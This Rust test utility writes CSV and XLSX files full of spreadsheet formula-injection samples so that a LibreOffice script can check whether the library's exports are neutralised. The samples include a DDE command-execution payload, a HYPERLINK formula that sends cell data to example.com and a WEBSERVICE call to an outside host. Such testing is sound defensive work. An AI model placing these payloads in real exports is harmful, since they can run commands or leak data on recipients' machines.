//! Writes exports whose cells would like to be formulas into a folder, for `scripts/libreoffice.sh`.

use std::{env, fs, io, path::PathBuf};

use yingke_tabular::{CsvStream, XlsxStream, csv, push_csv, xlsx};

const SIGNS: [&str; 12] = [
    "=", "+", "-", "@", "\t", "\r", "\n", " ", "'", "＝", "＋", "－",
];
const FORMULAS: [&str; 6] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"点这里\")",
    "=WEBSERVICE(\"http://example.com\")",
    "={1,2}",
    "1+1",
];

/// Every formula, bare and behind every sign. The first cell of a file is one too.
fn rows() -> Vec<Vec<String>> {
    let signs = [""].into_iter().chain(SIGNS);
    let row = |sign: &str| FORMULAS.map(|formula| format!("{sign}{formula}")).to_vec();
    let mut rows: Vec<_> = signs.map(row).collect();
    let breaks = [
        "\"=1+1",
        "\",=1+1",
        "\";=1+1",
        "a\n=1+1",
        "a\r\n=1+1",
        "a\t=1+1",
    ];
    rows.push(breaks.map(str::to_owned).to_vec());
    rows
}

fn main() -> io::Result<()> {
    let folder = env::args_os().nth(1).map(PathBuf::from);
    let folder = folder.ok_or_else(|| io::Error::other("name a folder"))?;
    let rows = rows();
    let (first, rest) = rows.split_at(3);
    let mut stream = CsvStream::default();
    let streamed = [stream.push(first), stream.push(rest)].concat();
    // As goods go out, with the mark of their file.
    let mut goods = "\u{feff}".to_owned();
    for row in &rows {
        push_csv(&mut goods, row.iter().map(String::as_str));
    }
    let mut book = XlsxStream::new("订单");
    let booked = [book.push(first), book.push(rest), book.end()].concat();
    for (name, bytes) in [
        ("whole.csv", csv(&rows)),
        ("whole.xlsx", xlsx("短语", &rows)),
        ("streamed.csv", streamed),
        ("streamed.xlsx", booked),
        ("goods.csv", goods.into_bytes()),
    ] {
        fs::write(folder.join(name), bytes)?;
    }
    Ok(())
}
